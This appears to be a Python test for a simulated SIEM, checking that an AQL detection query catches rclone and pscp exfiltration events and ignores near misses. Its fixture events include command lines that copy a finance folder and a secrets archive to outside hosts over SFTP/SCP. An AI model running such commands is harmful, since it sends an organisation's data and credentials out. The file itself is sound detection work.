"""The seed AQL, changed only as DESIGN.md/aql.md require (devicetype IN (12); the time frame as a
trailing START/STOP clause), parses and finds exactly the rclone/pscp activity in a hand-made event set."""
from __future__ import annotations

from tests.sim.test_aql_support import T0, event, make_store, run, seed_query

HOST, OTHER = "10.1.2.17", "10.1.2.30"


def seed_events():
    proc = {"category": 8110, "qid": 5001828}
    net = {"category": 18001, "qid": 5001829}
    return [
        # hits
        event(0, **proc, props={"EventID": "1", "Process Name": "rclone.exe",
                                "CommandLine": "rclone.exe copy C:\\Finance sftp://192.0.2.1/drop --sftp-pass x"}),
        event(1000, **net, destinationip="192.0.2.1", destinationport=22,
              props={"EventID": "3", "Process Name": "rclone.exe"}),
        event(2000, **proc, sourceip=OTHER, username="CORP\\bob",
              props={"EventID": "4688", "Process Name": "PSCP.EXE",
                     "CommandLine": "pscp.exe -pw hunter2 secrets.zip admin@198.51.100.1:/tmp"}),
        event(3000, **net, sourceip=OTHER, destinationip="198.51.100.1", destinationport=22,
              props={"EventID": "3", "Process Name": "pscp.exe"}),
        event(4000, **proc, props={"EventID": "1", "Process Name": "powershell.exe",
                                   "CommandLine": "powershell -c \"Send-MailMessage -UseSsl smtps://mail\""}),
        # near misses
        event(5000, **net, destinationip="10.9.9.9", destinationport=22,
              props={"EventID": "3", "Process Name": "rclone.exe"}),            # internal destination
        event(6000, **net, destinationip="172.20.1.1", destinationport=443,
              props={"EventID": "3", "Process Name": "curl.exe"}),              # internal destination
        event(7000, **net, destinationip="192.0.2.1", destinationport=80,
              props={"EventID": "3", "Process Name": "rclone.exe"}),            # port not listed
        event(8000, **proc, devicetype=18, props={"EventID": "1", "Process Name": "rclone.exe"}),  # other type
        event(9000, **proc, props={"EventID": "1", "Process Name": "notepad.exe", "CommandLine": "notepad rclone.txt"}),
        event(10000, **proc, props={"EventID": "1", "Process Name": "powershell.exe",
                                    "CommandLine": "powershell Get-Process"}),   # benign shell
        event(11000, **proc, props={"EventID": "11", "Process Name": "rclone.exe"}),  # file event
        event(12000, **proc, props={"EventID": "1", "Process Name": "myrclone.exe.bak"}),  # full-match regex
        event(13000, **net, destinationip="192.0.2.1", destinationport=443,
              props={"EventID": "3"}),                                            # no process: NULL
    ]


def test_seed_query_finds_the_exfiltration_events():
    store = make_store(seed_events())
    rows = run(store, seed_query(T0, T0 + 60_000), now=T0 + 120_000)
    # full-value regex reading: the seed's unwrapped command-line pattern '(?i)(sftp|...|smtps|...)' matches
    # only a command line that is exactly one of those words, so the PowerShell SMTPS event is not a hit
    assert [(r["EventTime"], r["ProcessName"], r["sourceip"]) for r in rows] == [
        ("2024-04-25 14:51:23", "pscp.exe", OTHER),
        ("2024-04-25 14:51:22", "PSCP.EXE", OTHER),
        ("2024-04-25 14:51:21", "rclone.exe", HOST),
        ("2024-04-25 14:51:20", "rclone.exe", HOST),
    ]
    first = rows[-1]
    assert list(first) == ["EventTime", "LogSource", "username", "sourceip", "destinationip", "destinationport",
                           "EventID", "ProcessName", "CommandLine", "Category"]
    assert first["LogSource"] == "WinCollect @ ws-17" and first["Category"] == "Process Creation Success"
    assert rows[0]["destinationip"] == "198.51.100.1" and rows[0]["destinationport"] == 22
    assert rows[0]["CommandLine"] is None and rows[0]["EventID"] == "3"


def test_seed_query_respects_its_window():
    store = make_store(seed_events())
    rows = run(store, seed_query(T0 + 1500, T0 + 3000), now=T0 + 120_000)
    assert [r["ProcessName"] for r in rows] == ["PSCP.EXE"]  # epoch STOP is exclusive


def test_seed_query_in_substring_mode_also_matches_inside_values():
    store = make_store(seed_events())
    rows = run(store, seed_query(T0, T0 + 60_000), now=T0 + 120_000, regex_mode="substring")
    assert [r["ProcessName"] for r in rows] == ["myrclone.exe.bak", "powershell.exe", "pscp.exe", "PSCP.EXE",
                                                "rclone.exe", "rclone.exe"]
